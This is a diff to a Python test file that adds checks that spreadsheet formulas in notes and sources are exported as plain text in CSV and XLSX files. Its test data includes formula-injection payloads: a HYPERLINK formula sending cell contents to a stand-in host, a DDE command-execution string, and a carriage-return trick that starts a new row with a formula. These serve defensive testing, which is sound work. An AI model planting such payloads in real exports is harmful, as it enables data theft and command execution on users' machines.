@@ -10,7 +10,7 @@ from generator.csv_download import csv_bytes
 
 
 def read(data: bytes) -> list[list[str]]:
-    return list(csv.reader(io.StringIO(data.decode("utf-8"))))
+    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
 
 
 def test_each_row_says_what_its_symbols_mean() -> None:
@@ -81,3 +81,36 @@ def test_a_computed_tables_workbook_keeps_its_notes_on_a_notes_sheet() -> None:
         ["Notes", None], ["Note", "Text"], ["[x]", "not available."],
         ["c", "suppressed to protect privacy (a count from 1 to 5)."],
         ["Note 1", "1 missing figure left out."], ["Source", "DfE"]]
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1"]
+
+
+def test_a_formula_in_a_note_or_the_source_stays_text_in_the_csv() -> None:
+    # Notes and sources come from authors (a dataset's title, a block's notes): the footnote rows are cells too.
+    for formula in FORMULAS:
+        rows = read(csv_bytes(["a"], [[1]], notes=[formula], source=formula))
+        footnotes = [row[0] for row in rows[3:]]
+        assert footnotes and all(cell[0] not in "=+-@\t\r" for cell in footnotes), (formula, footnotes)
+
+
+def test_a_formula_in_a_note_or_the_source_stays_text_on_the_notes_sheet() -> None:
+    import zipfile
+
+    from generator.compute.tables import Cell, ComputedTable
+    from generator.exports.xlsx import table_workbook
+
+    for formula in FORMULAS:
+        table = ComputedTable("T", [("LA", None), ("n", None)], [[Cell("Ashby", "text"), Cell(3, "integer")]],
+                              notes=[formula, f"c: {formula}"], source=formula)
+        with zipfile.ZipFile(io.BytesIO(table_workbook(table))) as archive:
+            sheets = "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))
+        assert "<f>" not in sheets and "<f " not in sheets, formula
+
+
+def test_a_carriage_return_inside_a_cell_cannot_start_a_row() -> None:
+    # Written unquoted, "x\r=1" would be two rows to a spreadsheet, the second opening with a formula.
+    data = csv_bytes(["a", "b"], [["x\r=HYPERLINK(\"http://evil.example\")", "y\r\n@SUM(1)"]])
+    assert b"\r" not in data
+    assert data.decode("utf-8").count('"') >= 4  # both cells quoted, so their line breaks stay inside them
+    assert read(data) == [["a", "b"], ["x\n=HYPERLINK(\"http://evil.example\")", "y\n@SUM(1)"]]
